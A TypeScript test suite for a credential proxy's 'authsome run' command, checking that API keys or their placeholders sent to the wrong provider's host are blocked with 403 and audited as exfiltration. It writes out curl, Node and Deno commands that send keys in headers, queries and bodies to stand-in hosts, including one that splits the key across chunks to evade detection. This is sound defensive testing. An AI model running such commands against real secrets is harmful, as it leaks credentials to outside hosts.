/**
 * Tripwires through the real `authsome run` (issue 10): every run's child gets fresh
 * placeholders shaped like the provider's keys; a placeholder or a stored secret of one provider
 * sent to another provider's (intercepted) host, in a header, the query or the body, is answered
 * 403 naming the provider and the host, never reaches that host, and is audited as
 * `egress.exfiltration` without the value; sent to its own provider's host the placeholder is
 * replaced by the key. Real clients (curl, a Node child's fetch, a Deno child's fetch) and a
 * real HTTPS upstream.
 */
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import https from "node:https";
import type { AddressInfo } from "node:net";
import tls from "node:tls";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { createCertificateAuthority, createMemoryCaStore } from "../../src/proxy/ca.ts";
import { cliCommand, runCli, tempHome } from "../helpers/cli.ts";
import { startHttpUpstream, startHttpsUpstream, type TestUpstream } from "../helpers/proxy-upstream.ts";
import { repoRoot } from "../helpers/spawn-runtime.ts";

const KEY = "sk-acme-real-key-0123456789abcdef";
const OTHER_KEY = "other-real-key-00000000";
let home: Awaited<ReturnType<typeof tempHome>>;
let upstream: TestUpstream;
let plain: TestUpstream;
let env: Record<string, string>;
let own: string;
let other: string;
let sink: string;
let sinkServer: https.Server;
/** What the sink host received: each request's path and every body byte that arrived. */
const sunk: { url: string; body: string }[] = [];

/** An HTTPS host that keeps every body byte it receives, also of requests cut short. */
async function startSink(ca: Awaited<ReturnType<typeof createCertificateAuthority>>): Promise<number> {
  sinkServer = https.createServer({
    SNICallback: (name, done) => void ca.leafFor(name).then((leaf) => done(null, tls.createSecureContext({ cert: leaf.certPem, key: leaf.keyPem })), done),
  });
  sinkServer.on("request", (req, res) => {
    const entry = { url: req.url ?? "", body: "" };
    sunk.push(entry);
    req.on("data", (chunk: Buffer) => (entry.body += chunk.toString("latin1")));
    req.on("end", () => res.end("ok"));
  });
  await new Promise<void>((resolve) => sinkServer.listen(0, "127.0.0.1", resolve));
  return (sinkServer.address() as AddressInfo).port;
}

before(async () => {
  home = await tempHome();
  const upstreamCa = await createCertificateAuthority(createMemoryCaStore());
  upstream = await startHttpsUpstream(() => upstreamCa);
  plain = await startHttpUpstream();
  const sinkPort = await startSink(upstreamCa);
  sink = `https://sink.example.test:${sinkPort}`;
  const caFile = join(home.home, "upstream-ca.pem");
  await writeFile(caFile, upstreamCa.caCertPem());
  const resolve = [`api.example.test:${upstream.port}:127.0.0.1`, `other.example.test:${upstream.port}:127.0.0.1`, `plain.example.test:${plain.port}:127.0.0.1`, `sink.example.test:${sinkPort}:127.0.0.1`].join(",");
  env = { ...home.env, AUTHSOME_UPSTREAM_RESOLVE: resolve, AUTHSOME_UPSTREAM_CA: caFile };
  own = `https://api.example.test:${upstream.port}`;
  other = `https://other.example.test:${upstream.port}`;
  const acme = join(home.home, "acme.json");
  await writeFile(acme, JSON.stringify({ name: "acme", authType: "api_key", inject: [{ host: "api.example.test" }], apiKey: { pattern: "^sk-[A-Za-z0-9_-]{20,}$" }, env: { ACME_API_KEY: "api_key" } }));
  const elsewhere = join(home.home, "elsewhere.json");
  await writeFile(elsewhere, JSON.stringify({ name: "elsewhere", authType: "api_key", inject: [{ host: "other.example.test" }, { host: "sink.example.test" }], env: { OTHER_KEY: "api_key" } }));
  for (const [args, input] of [[["providers", "add", acme], ""], [["login", "acme"], KEY], [["providers", "add", elsewhere], ""], [["login", "elsewhere"], OTHER_KEY]] as const) {
    const r = await runCli([...args], { env, input });
    assert.equal(r.code, 0, r.stderr);
  }
});
after(async () => {
  sinkServer.closeAllConnections();
  await Promise.all([upstream.close(), plain.close(), new Promise((resolve) => sinkServer.close(resolve))]);
  await home.cleanup();
});

const run = (args: string[]) => runCli(["run", "--", ...args], { env });
/** Requests the upstream received under a path prefix. */
const received = (prefix: string) => upstream.requests.filter((q) => q.url.startsWith(prefix));

/** The exfiltration entries of the audit log (read through `authsome audit --json`), and its raw text. */
async function exfiltrations(): Promise<{ entries: { provider?: string; host?: string; outcome?: string; status?: number }[]; text: string }> {
  const r = await runCli(["audit", "--json"], { env });
  assert.equal(r.code, 0, r.stderr);
  const parsed = JSON.parse(r.stdout) as unknown;
  const list = (Array.isArray(parsed) ? parsed : ((parsed as { entries?: unknown[] }).entries ?? [])) as { action?: string }[];
  return { entries: list.filter((e) => e.action === "egress.exfiltration") as never, text: r.stdout };
}

test("two runs get different placeholders, each shaped like the provider's keys", async () => {
  const [a, b] = await Promise.all([run(["sh", "-c", "echo $ACME_API_KEY $OTHER_KEY"]), run(["sh", "-c", "echo $ACME_API_KEY $OTHER_KEY"])]);
  assert.equal(a.code, 0, a.stderr);
  assert.equal(b.code, 0, b.stderr);
  const [acmeA, otherA] = a.stdout.trim().split(" ");
  const [acmeB, otherB] = b.stdout.trim().split(" ");
  assert.match(acmeA ?? "", /^sk-authsome-[A-Za-z0-9_-]{24}$/);
  assert.match(acmeA ?? "", /^sk-[A-Za-z0-9_-]{20,}$/, "the provider's own key pattern accepts it");
  assert.match(otherA ?? "", /^authsome-managed-[A-Za-z0-9]{24}$/, "no key pattern: the readable form");
  assert.notEqual(acmeA, acmeB);
  assert.notEqual(otherA, otherB);
});

test("curl: a placeholder to another provider's host in a header, the query or the body is 403 and never arrives", async () => {
  const before = (await exfiltrations()).entries.length;
  const script = [
    `curl -sS -o /dev/null -w '%{http_code}\\n' -H "X-Leak: $ACME_API_KEY" "${other}/trip-header"`,
    `curl -sS -w '%{http_code}\\n' "${other}/trip-query?k=$ACME_API_KEY"`,
    `curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: Basic $(printf 'u:%s' "$ACME_API_KEY" | base64 -w0)" "${other}/trip-basic"`,
    `curl -sS -o /dev/null -w '%{http_code}\\n' --data "prompt=hello&key=$ACME_API_KEY" "${sink}/trip-body"`,
    `echo placeholder=$ACME_API_KEY`,
  ].join("; ");
  const r = await run(["sh", "-c", script]);
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.trim().split("\n");
  const placeholder = (lines.at(-1) ?? "").replace("placeholder=", "");
  assert.deepEqual([lines[0], lines[2], lines[3], lines[4]], ["403", "403", "403", "403"], r.stdout);
  assert.match(lines[1] ?? "", /acme placeholder .*other\.example\.test.*exfiltration/, "the 403 names the provider and the host");
  assert.ok(!(lines[1] ?? "").includes(placeholder), "the answer never quotes the value");
  for (const path of ["/trip-header", "/trip-query", "/trip-basic"]) assert.equal(received(path).length, 0, `${path} reached the host`);
  const body = sunk.filter((q) => q.url === "/trip-body");
  assert.ok(body.every((q) => !q.body.includes(placeholder) && !q.body.includes("key=")), JSON.stringify(body));
  const audit = await exfiltrations();
  const fresh = audit.entries.slice(before);
  assert.equal(fresh.length, 4, JSON.stringify(fresh));
  for (const entry of fresh) assert.deepEqual([entry.provider, entry.outcome, entry.status], ["acme", "denied", 403]);
  assert.deepEqual(fresh.map((e) => e.host), ["other.example.test", "other.example.test", "other.example.test", "sink.example.test"]);
  assert.ok(!audit.text.includes(placeholder) && !audit.text.includes(KEY), "the audit log holds no value");
});

test("a stored secret of one provider sent to another provider's host is 403", async () => {
  const r = await run(["sh", "-c", `curl -sS -o /dev/null -w '%{http_code}\\n' -H "X-Leak: ${KEY}" "${other}/secret-header"; curl -sS -o /dev/null -w '%{http_code}\\n' --data-urlencode "k=${KEY}" "${sink}/secret-body"`]);
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual(r.stdout.trim().split("\n"), ["403", "403"]);
  assert.equal(received("/secret-header").length, 0);
  assert.ok(sunk.filter((q) => q.url === "/secret-body").every((q) => !q.body.includes(encodeURIComponent(KEY).slice(0, 12))));
  const entries = (await exfiltrations()).entries;
  assert.equal(entries.at(-1)?.provider, "acme");
});

test("the placeholder to its own provider's host is replaced by the key (header) and passes (body)", async () => {
  const r = await run(["sh", "-c", `curl -sS --fail -o /dev/null -H "Authorization: Bearer $ACME_API_KEY" "${own}/own-header" && curl -sS --fail -o /dev/null --data "key=$ACME_API_KEY" "${own}/own-body" && echo ok`]);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout.trim(), "ok");
  assert.equal(received("/own-header")[0]?.headers.authorization, `Bearer ${KEY}`);
  assert.equal(received("/own-body")[0]?.headers.authorization, `Bearer ${KEY}`);
});

test("a Node child's fetch: a placeholder in a POST body to another provider's host is 403", async () => {
  // The placeholder sits well into a 200 KB body, past the first chunks the proxy passes on.
  const script = `const r = await fetch("${sink}/node-body", { method: "POST", body: JSON.stringify({ pad: "x".repeat(100000), key: process.env.ACME_API_KEY, more: "y".repeat(100000) }) }); console.log(r.status, await r.text());`;
  const r = await run(["node", "--input-type=module", "-e", script]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^403 .*acme placeholder/);
  const got = sunk.filter((q) => q.url === "/node-body");
  assert.ok(got.every((q) => !q.body.includes('"key"') && !q.body.includes("y")), "bytes before the placeholder may leave; it and what follows never do");
});

test("a Node child's node:https: a placeholder cut across two chunks of a chunked upload is 403", async () => {
  const script = `import https from "node:https";
const key = process.env.ACME_API_KEY, cut = 9;
const req = https.request("${sink}/node-chunked", { method: "POST" }, (res) => { let t = ""; res.on("data", (d) => (t += d)); res.on("end", () => console.log(res.statusCode, t)); });
req.on("error", (e) => console.log("error", e.message));
req.write("key=" + key.slice(0, cut), () => req.end(key.slice(cut) + "&tail=y"));`;
  const r = await run(["node", "--input-type=module", "-e", script]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^403 .*acme placeholder .*sink\.example\.test/);
  const got = sunk.filter((q) => q.url === "/node-chunked");
  assert.ok(got.every((q) => !q.body.includes("key=") && !q.body.includes("tail")), JSON.stringify(got));
});

test("a Deno child's fetch: a placeholder in the query to another provider's host is 403", async () => {
  const deno = join(repoRoot, "node_modules/.bin/deno");
  if (spawnSync(deno, ["--version"]).status !== 0) return assert.fail("deno binary missing");
  const script = `const r = await fetch("${other}/deno-query?k=" + Deno.env.get("ACME_API_KEY")); console.log(r.status); await r.text();`;
  const r = await run([deno, "eval", "--quiet", script]);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout.trim(), "403");
  assert.equal(received("/deno-query").length, 0);
});

test("plain HTTP to an undeclared host (the proxy sees it in clear) trips too: query and body", async () => {
  const target = `http://plain.example.test:${plain.port}`;
  const r = await run(["sh", "-c", `curl -sS -o /dev/null -w '%{http_code}\\n' "${target}/plain?k=$ACME_API_KEY"; curl -sS -o /dev/null -w '%{http_code}\\n' --data "k=$ACME_API_KEY" "${target}/plain-body"`]);
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual(r.stdout.trim().split("\n"), ["403", "403"]);
  assert.equal(plain.requests.filter((q) => q.url.startsWith("/plain")).length, 0);
});

test("--deny-unmatched: the placeholder to another provider's host is an exfiltration; an undeclared host is refused outright", async () => {
  const r = await runCli(["run", "--deny-unmatched", "--", "sh", "-c", `curl -sS -w '%{http_code}\\n' -H "X-Leak: $ACME_API_KEY" "${other}/deny-trip"; curl -sS -w '%{http_code}\\n' "https://nowhere.example.test/?k=$ACME_API_KEY"; echo done`], { env });
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.trim().split("\n");
  assert.match(lines[0] ?? "", /acme placeholder .*exfiltration/);
  assert.equal(lines[1], "403");
  assert.deepEqual(lines.slice(-2), ["000", "done"], "CONNECT to an undeclared host is refused: no tunnel, blind or not");
  assert.match(r.stderr, /CONNECT tunnel failed, response 403/);
  assert.equal(received("/deny-trip").length, 0);
});

test("a run hosted by the daemon: the child's placeholders are the ones its proxy looks for", async () => {
  const { command, args } = cliCommand();
  const daemon = spawn(command, [...args, "serve", "--port", "0"], { env: { ...process.env, ...env, NO_COLOR: "1" }, stdio: ["ignore", "pipe", "pipe"] });
  let daemonErr = "";
  const exited = new Promise<void>((resolve) => daemon.on("close", () => resolve()));
  try {
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`the daemon did not start: ${daemonErr}`)), 30_000);
      daemon.stderr.on("data", (d: Buffer) => {
        daemonErr += d.toString();
        if (daemonErr.includes("listening on")) (clearTimeout(timer), resolve());
      });
    });
    const r = await run(["sh", "-c", `curl -sS -w '%{http_code}\\n' -H "X-Leak: $ACME_API_KEY" "${other}/daemon-trip"`]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /hosted by the daemon/);
    assert.match(r.stdout, /acme placeholder .*exfiltration[^]*403/);
    assert.equal(received("/daemon-trip").length, 0);
  } finally {
    daemon.kill("SIGTERM");
  }
  await exited;
});
